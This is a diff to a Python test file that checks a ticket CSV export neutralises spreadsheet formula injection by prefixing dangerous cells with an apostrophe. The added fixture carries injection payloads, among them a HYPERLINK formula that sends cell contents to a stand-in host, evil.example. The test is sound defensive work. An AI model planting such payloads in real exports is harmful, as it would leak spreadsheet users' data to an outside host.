@@ -11,6 +11,7 @@ agent (an imported receipt's actor is the import's operator), stream versions of
 
 from __future__ import annotations
 
+import csv
 import json
 from collections.abc import AsyncIterator
 from pathlib import Path
@@ -24,6 +25,7 @@ from services.feedback.tables import compliance_tickets
 from services.parts.tables import parts_catalogue, parts_locations, parts_monthly_usage, parts_stock
 from shared.app.config import Settings
 from shared.app.importing.catalog import find_kind
+from shared.app.importing.cells import FORMULA_STARTS
 from shared.app.importing.export import export_kind
 from shared.app.platform import Platform
 from shared.kernel.clock import ManualClock
@@ -151,6 +153,16 @@ async def build_live(platform: Platform, clock: ManualClock) -> dict[str, str]:
             )
         )
         tickets["corrected"] = corrected
+        # Text a spreadsheet would run as formulas (the export's CSV is opened in one).
+        tickets["formulas"] = await open_ticket(
+            intake,
+            path=None,
+            customer__name='=HYPERLINK("https://evil.example/?"&B2,"x")',
+            customer__phone="+86 138 0000 0007",
+            address__line="@SUM(1+1)*cmd",
+            product__serial_number="RT-7",
+            problem__symptom="-2+3 drum stops",
+        )
     await run_projector(platform)
     return tickets
 
@@ -251,6 +263,15 @@ async def test_export_then_import_reproduces_the_read_models(
     assert [u.reason for u in left_out["tickets"]] == [
         "ContactDetailsCorrected more than once or out of the row's order"
     ]
+    with files["tickets"].open(newline="") as f:
+        cells = [cell for row in csv.reader(f) for cell in row]
+    assert [c for c in cells if c.startswith("'")] == [
+        '\'=HYPERLINK("https://evil.example/?"&B2,"x")',
+        "'+8613800000007",
+        "'@SUM(1+1)*cmd",
+        "'-2+3 drum stops",
+    ]
+    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
     await import_all(empty, files)
     await run_projector(empty)
     kept = {t for name, t in tickets.items() if name != "corrected"}
